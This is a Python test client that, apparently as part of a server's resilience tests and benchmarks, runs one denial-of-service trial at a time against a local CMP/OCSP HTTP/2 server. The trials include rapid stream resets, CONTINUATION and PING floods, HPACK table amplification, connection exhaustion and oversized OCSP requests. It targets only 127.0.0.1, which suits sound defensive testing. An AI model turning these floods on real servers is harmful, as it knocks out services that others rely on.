#!/usr/bin/env python3
"""A client that means harm, of one kind at a time: for test_beside_honest_ones.sh and bench/hostile.

    attack.py TRIAL PORT SECONDS [--from ADDRESS] [--tls]
    attack.py --list                                             the names of the trials

OCSP_ISSUER in its environment: the SHA-1 digests of name and key of the CA whose OCSP it asks, in hexadecimal.

It ends by itself after SECONDS, talks to 127.0.0.1 alone, and prints what it did and the CPU time it took. A server that closes its
connections, refuses its requests or does not answer is what it is there for: that is no failure of it."""
import argparse
import base64
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NEWEST = b"\xbe"  # the newest entry of HPACK's dynamic table
PATH = "/.well-known/cmp/p/demo"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK without Huffman code (RFC 7541 5.2)."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, bytes([127])
    while rest >= 128:
        out += bytes([rest % 128 + 128])
        rest //= 128
    return out + bytes([rest]) + value


def field(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


FIELDS = b"".join(field(*pair) for pair in ((":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "x"),
                                            ("content-type", "application/pkixcmp")))


def window(size):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


def tlv(tag, *parts):
    content = b"".join(parts)
    size = (bytes([len(content)]) if len(content) < 128 else bytes([0x81, len(content)]) if len(content) < 256
            else b"\x82" + struct.pack(">H", len(content)))
    return bytes([tag]) + size + content


def unprotected(body):
    null_dn = tlv(0xa4, tlv(0x30))
    nonce = lambda: tlv(4, random.randbytes(16))
    return tlv(0x30, tlv(0x30, tlv(2, b"\x02"), null_dn, null_dn, tlv(0xa4, nonce()), tlv(0xa5, nonce())), body)


def message():
    """Readable as a CMP message by its header alone (ir, no protection): refused, and answered with a signature."""
    return unprotected(tlv(0xa0, tlv(0x30)))


def question(number, *value):
    return tlv(0x30, bytes.fromhex("06082b060105050704") + bytes([number]), *value)


def crl_question():
    """Four CRLs, each by as many URLs as are looked at and a name that takes the tables of Unicode (RFC 9810 5.3.19.17)."""
    def status():
        text = "".join(chr(random.randrange(0x3b1, 0x3c9)) for _ in range(200)).encode()
        name = tlv(0x30, tlv(0x31, tlv(0x30, bytes.fromhex("0603550403"), tlv(0x0c, text))))
        urls = [tlv(0x86, b"http://nowhere/" + str(random.random()).encode()) for _ in range(8)]
        return tlv(0x30, tlv(0xa0, tlv(0xa0, *urls, tlv(0xa4, name))))
    return question(22, tlv(0x30, *(status() for _ in range(4))))


def general():
    """A general message without protection: what costs most, and asks for most."""
    kinds = [lambda: [crl_question()], lambda: [question(6)], lambda: [],
             lambda: [question(17), question(20), question(6), crl_question(), *(question(10, tlv(6, b"\x2a")) for _ in range(12))],
             lambda: [tlv(0x30, tlv(6, bytes([0x2a, *(random.randrange(1, 128) for _ in range(3))]))) for _ in range(16)]]
    return unprotected(tlv(0xb5, tlv(0x30, *random.choice(kinds)())))


def ocsp_request(certificates):
    """For certificates that nobody has issued, each a look into the store where OCSP_ISSUER has the digests of its CA."""
    issuer = b"".join(tlv(4, bytes.fromhex(digest)) for digest in os.environ.get("OCSP_ISSUER", "00 00").split())
    sha1 = tlv(0x30, bytes.fromhex("06052b0e03021a0500"))
    request = lambda: tlv(0x30, tlv(0x30, sha1, issuer, tlv(2, b"\x0d" + random.randbytes(15))))
    nonce = tlv(0x30, bytes.fromhex("06092b0601050507300102"), tlv(4, tlv(4, random.randbytes(32))))
    return tlv(0x30, tlv(0x30, tlv(0x30, *(request() for _ in range(certificates))), tlv(0xa2, tlv(0x30, nonce))))


class Attack:
    def __init__(self, arguments):
        self.port, self.source = arguments.port, arguments.source
        self.until = time.monotonic() + arguments.seconds
        self.tls = ssl.create_default_context() if arguments.tls else None
        if self.tls is not None:
            self.tls.check_hostname = False
            self.tls.verify_mode = ssl.CERT_NONE
            self.tls.set_alpn_protocols(["h2"])
        self.done = 0

    def going_on(self):
        return time.monotonic() < self.until

    def connect(self, receive_buffer=None, h2=True):
        """A connection, or None if there is none to be had."""
        sock = socket.socket()
        sock.settimeout(1)
        try:
            sock.bind((self.source, 0))
            if receive_buffer is not None:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
            sock.connect(("127.0.0.1", self.port))
            if self.tls is not None:
                sock = self.tls.wrap_socket(sock, server_hostname="x")
            if h2:
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            return sock
        except OSError:
            sock.close()
            return None

    def send(self, sock, data):
        """1, or 0 when the server does not take it."""
        try:
            sock.sendall(data)
            return 1
        except OSError:
            return 0

    def again(self, conversation, pause=0.002):
        """One conversation after the other, each over a connection of its own."""
        while self.going_on():
            sock = self.connect()
            if sock is None:
                time.sleep(0.05)
                continue
            with sock:
                conversation(sock)
            self.done += 1
            time.sleep(pause)

    # ---- the trials ----

    def windows(self):
        """Reads nothing, and flips the windows of its streams."""
        def conversation(sock):
            self.send(sock, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff - 65535)))
            for i in range(100):
                body = message()
                if not self.send(sock, frame(HEADERS, END_HEADERS, 2 * i + 1, FIELDS) + frame(DATA, END_STREAM, 2 * i + 1, body) +
                                 window(0) + window(65535)):
                    return
        self.again(conversation)

    def digest(self):
        """A cache-digest, again and again by one octet."""
        digest = base64.urlsafe_b64encode(b"\xf8\x3f" + bytes([255]) * 2900).decode().rstrip("=")
        self.again(lambda sock: self.send(sock, frame(HEADERS, END_HEADERS | END_STREAM, 1,
                                                      FIELDS + field("cache-digest", digest, True) + 1000 * NEWEST)))

    def references(self):
        """Streams that stay open, of references to a field of the table."""
        held = []

        def conversation(sock):
            held.append(sock.dup() if self.tls is None else sock)
            self.send(sock, frame(HEADERS, END_HEADERS, 1, FIELDS + field("x", 2000 * "y", True)))
            for i in range(1, 100):
                if not self.send(sock, frame(HEADERS, END_HEADERS, 2 * i + 1, FIELDS + 16000 * NEWEST)):
                    return
        self.again(conversation, 0.05)

    def idle(self):
        """6,000 connections that say nothing."""
        held = []
        while self.going_on():
            sock = self.connect(h2=False) if len(held) < 6000 else None
            if sock is None:
                time.sleep(0.05)
            else:
                held.append(sock)
                self.done += 1

    def resets(self):
        """Requests whose answers it does not wait for, over ever new connections."""
        def conversation(sock):
            for i in range(90):
                if not self.send(sock, frame(HEADERS, END_HEADERS, 2 * i + 1, FIELDS) +
                                 frame(DATA, END_STREAM, 2 * i + 1, message()) +
                                 frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))):
                    return
        self.again(conversation)

    def bodies(self):
        """Bodies that never end, on 100 streams a connection."""
        held = []
        while self.going_on():
            sock = self.connect() if len(held) < 500 else None
            if sock is None:
                time.sleep(0.05)
                continue
            held.append(sock)
            self.send(sock, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff - 65535)))
            for i in range(100):
                if not self.send(sock, frame(HEADERS, END_HEADERS, 2 * i + 1, FIELDS) +
                                 3 * frame(DATA, 0, 2 * i + 1, bytes(16000))):
                    break
            self.done += 1

    def nothing(self):
        """Frames that hold nothing, as many as the server takes."""
        def conversation(sock):
            self.send(sock, frame(HEADERS, 0, 1, FIELDS))
            while self.going_on() and self.send(sock, 1000 * frame(CONTINUATION, 0, 1)):
                pass
        self.again(conversation)

    def pings(self):
        """PINGs whose answers it does not read."""
        def conversation(sock):
            while self.going_on() and self.send(sock, 1000 * frame(PING, 0, 0, bytes(8))):
                pass
        self.again(conversation)

    def refused(self):
        """Requests that are refused, 100 at a time on a connection, read and asked again."""
        self.ask(message)

    def questions(self):
        """General messages, likewise."""
        bodies = [general() for _ in range(200)]
        self.ask(lambda: random.choice(bodies))

    def ask(self, make):
        def conversation(sock):
            stream = 1
            while self.going_on():
                if not self.send(sock, b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, FIELDS) +
                                                frame(DATA, END_STREAM, stream + 2 * i, make()) for i in range(90))):
                    return
                stream += 180
                try:
                    while len(sock.recv(1 << 20)) == 1 << 20:
                        pass
                except OSError:
                    return
        self.again(conversation)

    def ocsp(self):
        """Requests of OCSP: some for many certificates, some that are none, 90 at a time on a connection, read and asked again."""
        fields = b"".join(field(*pair) for pair in ((":method", "POST"), (":scheme", "http"), (":path", "/ocsp"), (":authority", "x"),
                                                    ("content-type", "application/ocsp-request")))

        kinds = [[make() for _ in range(50)] for make in (lambda: ocsp_request(16), lambda: ocsp_request(1))]
        bad = [ocsp_request(500), random.randbytes(100)]

        def body(i):
            return bad[i // 30 % 2] if i % 30 == 0 else random.choice(kinds[i % 2])

        def conversation(sock):
            stream = 1
            while self.going_on():
                bodies = [body(i) for i in range(90)]
                if not self.send(sock, b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, fields) +
                                                b"".join(frame(DATA, 0, stream + 2 * i, octets[at:at + 16000])
                                                         for at in range(0, len(octets), 16000)) +
                                                frame(DATA, END_STREAM, stream + 2 * i) for i, octets in enumerate(bodies))):
                    return
                stream += 180
                try:
                    while len(sock.recv(1 << 20)) == 1 << 20:
                        pass
                except OSError:
                    return
        self.again(conversation)

    def handshakes(self):
        """TLS handshakes that nothing follows."""
        self.again(lambda sock: None, 0)

    def garbage(self):
        """What is neither HTTP nor CMP."""
        def conversation(sock):
            self.send(sock, random.randbytes(random.randrange(1, 3000)))
        self.again(conversation)


TRIALS = [name for name, value in vars(Attack).items()
          if callable(value) and value.__doc__ and name not in ("connect", "send", "again")]


def main():
    if sys.argv[1:] == ["--list"]:
        print(*TRIALS)
        return
    parser = argparse.ArgumentParser()
    parser.add_argument("trial", choices=TRIALS)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--from", dest="source", default="127.0.9.1")
    parser.add_argument("--tls", action="store_true")
    arguments = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(20000, hard), hard))
    attack = Attack(arguments)
    getattr(attack, arguments.trial)()
    usage = resource.getrusage(resource.RUSAGE_SELF)
    print(f"{arguments.trial}: {attack.done} rounds, {usage.ru_utime + usage.ru_stime:.1f} s of CPU time", flush=True)
    os._exit(0)  # thousands of sockets need not be closed one by one


main()
